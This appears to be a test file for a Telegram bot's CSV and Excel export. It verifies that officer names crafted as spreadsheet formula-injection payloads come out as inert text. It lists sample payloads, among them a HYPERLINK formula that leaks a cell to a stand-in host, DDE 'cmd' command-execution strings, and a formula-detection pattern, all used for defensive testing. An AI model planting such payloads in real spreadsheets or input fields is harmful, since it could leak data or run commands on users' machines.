import ExcelJS from "exceljs";
import type { InputFile } from "grammy";
import type { User } from "grammy/types";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createInvites } from "../src/domain/invites.ts";
import { createHarness, type Harness } from "./support/harness.ts";
import { telegramUser } from "./support/people.ts";
import { user } from "./support/updates.ts";

/**
 * /xuat and /xuat csv with officers whose Telegram names are spreadsheet formulas: a
 * spreadsheet must show them as text, never run them.
 */
let h: Harness;
const coordinator = user(7101, "Nguyễn Điều Phối");

// Telegram lets anyone choose these as their name. Each is the only officer of one unit,
// so it opens the "Cán bộ đầu mối" cell.
const HOSTILE: [unitCode: string, name: string][] = [
  ["quynh-nhai", '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'],
  ["song-ma", "+cmd|' /C calc'!A0"],
  ["thuan-chau", "-2+3+cmd|' /C calc'!A0"],
  ["tp-son-la", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["so-tu-phap", "\t=1+1"],
  ["so-noi-vu", "\r=1+1"],
  ["so-ke-hoach-dau-tu", "＝1+1"],
];

beforeAll(async () => {
  h = await createHarness({ env: { COORDINATOR_IDS: String(coordinator.id) } });
  let id = 7200;
  for (const [code, name] of HOSTILE) {
    const unit = await h.unit(code);
    const [invite] = await createInvites(h.db, { campaignId: h.campaign.id, role: "OFFICER", unitIds: [unit.id] });
    const officer: User = user(++id, name);
    await h.send(officer, `/start ${invite!.code}`);
  }
  // The names are stored as typed: only the export makes them harmless.
  expect(await h.db.person.count({ where: { displayName: HOSTILE[0]![1] } })).toBe(1);
});
afterAll(() => h.close());

async function sentFile() {
  const [doc] = h.recorder.of("sendDocument");
  const file = doc!.document as InputFile;
  return Buffer.from((await file.toRaw()) as Uint8Array);
}

/** Splits one CSV line (RFC 4180 quoting) into its cells. */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  for (const m of line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)) {
    cells.push(m[1] !== undefined ? m[1].replaceAll('""', '"') : m[2]!);
  }
  return cells;
}

/** What Excel and LibreOffice take for a formula when they open a CSV. */
const FORMULA = /^[=+\-@\t\r＝＋－＠]/;

describe("formula-looking names in the exports", () => {
  it("/xuat csv writes them as text: a leading apostrophe, nothing a spreadsheet runs", async () => {
    await h.send(coordinator, "/xuat csv");
    // Lines end with CRLF; a CR inside a quoted cell is part of the cell.
    const rows = (await sentFile())
      .toString("utf8")
      .slice(1)
      .split(/\r\n(?=\d+,|$)/);
    const officerColumn = csvCells(rows[0]!).indexOf("Cán bộ đầu mối");
    expect(officerColumn).toBeGreaterThan(0);
    const officers = rows.slice(1, 13).map((r) => csvCells(r)[officerColumn]);
    for (const [, name] of HOSTILE) expect(officers).toContain(`'${name}`);
    for (const row of rows.slice(1, 13)) {
      for (const cell of csvCells(row)) {
        // Numbers of the summary may be negative; nothing else may start like a formula.
        if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, row).not.toMatch(FORMULA);
      }
    }
  });

  it("/xuat writes the same text in the workbook, as text cells, never formulas", async () => {
    await h.send(coordinator, "/xuat");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await sentFile()) as unknown as ArrayBuffer);
    const summary = wb.getWorksheet("Tổng hợp")!;
    const officerColumn = (summary.getRow(2).values as unknown[]).indexOf("Cán bộ đầu mối");
    // XML reads a carriage return in text as a line feed.
    const lf = (text: string) => text.replace(/\r/g, "\n");
    const cells = summary.getColumn(officerColumn).values.slice(3).map(String).map(lf);
    for (const [, name] of HOSTILE) expect(cells).toContain(lf(`'${name}`));
    summary.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
  });

  it("both exports are in the audit log: who, which format, how much", async () => {
    const person = await h.db.person.findFirstOrThrow({ where: telegramUser(BigInt(coordinator.id)) });
    const entries = await h.db.auditLog.findMany({ where: { action: "results.export" }, orderBy: { id: "asc" } });
    expect(entries.map((e) => [e.actorId, e.entity, e.entityId])).toEqual([
      [person.id, "Campaign", String(h.campaign.id)],
      [person.id, "Campaign", String(h.campaign.id)],
    ]);
    expect(entries.map((e) => e.after)).toEqual([
      { format: "csv", file: "ket-qua-tu-danh-gia-2019.csv", bytes: expect.any(Number), units: 12, answers: 0 },
      { format: "xlsx", file: "ket-qua-tu-danh-gia-2019.xlsx", bytes: expect.any(Number), units: 12, answers: 0 },
    ]);
  });
});
